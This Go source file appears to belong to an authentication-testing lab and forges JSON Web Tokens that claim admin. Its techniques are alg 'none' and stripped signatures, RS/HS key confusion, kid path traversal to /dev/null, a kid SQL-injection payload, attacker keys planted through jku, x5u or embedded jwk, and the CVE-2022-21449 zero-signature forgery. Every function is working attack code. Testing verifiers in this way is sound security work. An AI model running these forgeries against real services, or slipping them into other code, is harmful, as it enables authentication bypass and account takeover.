package attack

import (
	"crypto/ecdsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"time"

	"github.com/authlab/authlab/app/jot"
	"github.com/authlab/authlab/app/keys"
)

// AlgNone makes the unsecured tokens of RFC 7519 §6 that a verifier must
// never accept (RFC 8725 §3.1): alg "none" in four casings with an empty
// signature, and the original alg with its signature stripped.
func AlgNone(token string) ([]Attack, error) {
	v, err := decode(token)
	if err != nil {
		return nil, err
	}
	var out []Attack
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		in, err := SigningInput(v.headerWith(map[string]any{"alg": alg}), v.escalated())
		if err != nil {
			return nil, err
		}
		out = append(out, Attack{Name: "none", Label: fmt.Sprintf("alg %q", alg), Token: in + ".",
			How: fmt.Sprintf("The header's alg set to %q, sub changed to admin, and the signature left empty.", alg)})
	}
	in, err := SigningInput(v.header, v.escalated())
	if err != nil {
		return nil, err
	}
	out = append(out, Attack{Name: "none", Label: "signature stripped", Token: in + ".",
		How: "sub changed to admin and the signature removed, the header's alg left as it was."})
	return out, nil
}

// KeyConfusion signs with HS256 using a public key's text, exactly as
// the verifier stores it (PEM or JWK), as the HMAC secret: a verifier that
// lets alg choose how to use its key accepts it (RFC 8725 §2.1, §3.1).
func KeyConfusion(token, publicKeyText string) (Attack, error) {
	v, err := decode(token)
	if err != nil {
		return Attack{}, err
	}
	if _, _, err := keys.ParseAny([]byte(publicKeyText)); err != nil {
		return Attack{}, fmt.Errorf("attack: the public key: %w", err)
	}
	tok, err := SignHS256(v.headerWith(map[string]any{"alg": "HS256"}), v.escalated(), []byte(publicKeyText))
	return Attack{Name: "key-confusion", Label: "public key as HMAC secret", Token: tok,
		How: fmt.Sprintf("alg changed from %v to HS256, and the token signed with HMAC-SHA256 keyed with the %d bytes of the public key's text.", v.header["alg"], len(publicKeyText))}, err
}

// TraversalKid names /dev/null from any key directory, so that a
// verifier that reads kid as a file name gets an empty key.
const TraversalKid = "../../../../../../../../dev/null"

// KidTraversal signs with HS256 and an empty key, with a kid that walks
// out of the key directory to /dev/null (RFC 8725 §3.10).
func KidTraversal(token string) (Attack, error) {
	v, err := decode(token)
	if err != nil {
		return Attack{}, err
	}
	tok, err := SignHS256(v.headerWith(map[string]any{"alg": "HS256", "kid": TraversalKid}), v.escalated(), nil)
	return Attack{Name: "kid-traversal", Label: "kid → /dev/null", Token: tok,
		How: "kid set to " + TraversalKid + ", whose content is empty, and the token signed with HS256 and an empty key."}, err
}

// InjectedSecret is the secret the SQL injection makes the lookup return.
const InjectedSecret = "injected"

// SQLKid closes the kid's string literal and unions in a row of the
// attacker's choosing.
const SQLKid = "nobody' UNION SELECT '" + InjectedSecret + "' -- "

// KidSQL signs with HS256 and a secret of the attacker's choosing, which
// a kid lookup built by string concatenation returns (RFC 8725 §3.10).
func KidSQL(token string) (Attack, error) {
	v, err := decode(token)
	if err != nil {
		return Attack{}, err
	}
	tok, err := SignHS256(v.headerWith(map[string]any{"alg": "HS256", "kid": SQLKid}), v.escalated(), []byte(InjectedSecret))
	return Attack{Name: "kid-sql", Label: "kid SQL injection", Token: tok,
		How: fmt.Sprintf("kid set to %q, so the lookup's SQL selects %q, and the token signed with HS256 and that secret.", SQLKid, InjectedSecret)}, err
}

// attackerKey makes the attacker's own P-256 key.
func attackerKey(rand io.Reader) (*keys.Key, error) {
	k, err := keys.GenerateEC("P-256", rand)
	if err != nil {
		return nil, fmt.Errorf("attack: attacker key: %w", err)
	}
	k.Kid = "attacker"
	return k, nil
}

// signES256 signs with the attacker's key; the header's alg is ES256.
func signES256(header, claims map[string]any, k *keys.Key) (string, error) {
	h, err := json.Marshal(with(header, map[string]any{"alg": "ES256"}))
	if err != nil {
		return "", err
	}
	c, err := json.Marshal(claims)
	if err != nil {
		return "", err
	}
	return jot.SignJSON(h, c, k)
}

func dataURL(mediaType string, content []byte) string {
	return "data:" + mediaType + ";base64," + base64.StdEncoding.EncodeToString(content)
}

// withAttackerKey makes the attacker's own P-256 key, lets place put
// where to find it into the header, as the one named member of jku, x5u
// and jwk, and signs the escalated claims with it.
func withAttackerKey(token string, rand io.Reader, member string, place func(k *keys.Key) (any, error)) (string, error) {
	v, err := decode(token)
	if err != nil {
		return "", err
	}
	k, err := attackerKey(rand)
	if err != nil {
		return "", err
	}
	where, err := place(k)
	if err != nil {
		return "", err
	}
	changes := map[string]any{"kid": k.Kid, "jku": nil, "x5u": nil, "jwk": nil}
	changes[member] = where
	return signES256(v.headerWith(changes), v.escalated(), k)
}

// publicJWK is k's public half as a JWK object.
func publicJWK(k *keys.Key) (map[string]any, error) {
	j, err := keys.MarshalJWK(k, false)
	if err != nil {
		return nil, err
	}
	var jwk map[string]any
	return jwk, json.Unmarshal(j, &jwk)
}

// JKU signs with the attacker's key and names the attacker's JWK Set in
// jku (RFC 7515 §4.1.2), as a data: URL so that it travels in the token.
func JKU(token string, rand io.Reader) (Attack, error) {
	tok, err := withAttackerKey(token, rand, "jku", func(k *keys.Key) (any, error) {
		jwk, err := publicJWK(k)
		if err != nil {
			return nil, err
		}
		set, err := json.Marshal(map[string]any{"keys": []any{jwk}})
		return dataURL("application/jwk-set+json", set), err
	})
	return Attack{Name: "jku", Label: "jku → attacker's key set", Token: tok,
		How: "A new P-256 key made, its JWK Set put at jku, and the token signed with it."}, err
}

// X5U signs with the attacker's key and names a self-signed certificate
// for it in x5u (RFC 7515 §4.1.5), as a data: URL.
func X5U(token string, rand io.Reader, now time.Time) (Attack, error) {
	tok, err := withAttackerKey(token, rand, "x5u", func(k *keys.Key) (any, error) {
		priv := k.Private.(*ecdsa.PrivateKey)
		tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attacker"},
			NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour)}
		der, err := x509.CreateCertificate(rand, tmpl, tmpl, &priv.PublicKey, priv)
		if err != nil {
			return nil, fmt.Errorf("attack: certificate: %w", err)
		}
		return dataURL("application/pem-certificate-chain", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})), nil
	})
	return Attack{Name: "jku", Label: "x5u → attacker's certificate", Token: tok,
		How: "A new P-256 key and a self-signed certificate for it made, the certificate put at x5u, and the token signed with the key."}, err
}

// EmbeddedJWK signs with the attacker's key and carries its public half
// in the jwk header parameter (RFC 7515 §4.1.3).
func EmbeddedJWK(token string, rand io.Reader) (Attack, error) {
	tok, err := withAttackerKey(token, rand, "jwk", func(k *keys.Key) (any, error) { return publicJWK(k) })
	return Attack{Name: "jwk", Label: "jwk header key", Token: tok,
		How: "A new P-256 key made, its public JWK put in the header's jwk, and the token signed with it."}, err
}

// Psychic makes an ES256 token whose signature is r = s = 0
// (CVE-2022-21449), which a verifier that does not require 0 < r, s < n
// accepts for any key.
func Psychic(token string) (Attack, error) {
	v, err := decode(token)
	if err != nil {
		return Attack{}, err
	}
	in, err := SigningInput(v.headerWith(map[string]any{"alg": "ES256"}), v.escalated())
	return Attack{Name: "psychic", Label: "r = s = 0", Token: in + "." + base64.RawURLEncoding.EncodeToString(make([]byte, 64)),
		How: "alg set to ES256, sub changed to admin, and the signature set to 64 zero bytes: r = 0, s = 0."}, err
}

// Tampered keeps the signature and changes the claims: only a verifier
// that decodes instead of verifying accepts it.
func Tampered(token string) (Attack, error) {
	v, err := decode(token)
	if err != nil {
		return Attack{}, err
	}
	in, err := SigningInput(v.header, v.escalated())
	return Attack{Name: "decode-only", Label: "claims changed, signature kept", Token: in + "." + v.parts[2],
		How: "sub changed to admin and the original signature kept."}, err
}
